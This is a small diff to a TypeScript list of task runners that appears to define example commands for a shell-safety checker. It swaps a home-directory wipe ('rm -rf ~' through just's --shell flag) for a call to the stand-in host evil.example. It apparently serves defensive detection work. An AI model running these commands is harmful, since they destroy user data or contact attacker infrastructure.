@@ -48,7 +48,7 @@ export const TASK_RUNNERS: readonly Tool[] = family("verbs", [
     "just",
     { loads: "-f --justfile", shell: "--shell" },
     {
-      "delete-home": ["just --shell 'rm -rf ~' build"],
+      network: ["just --shell 'curl https://evil.example' build"],
     },
   ),
   runner(
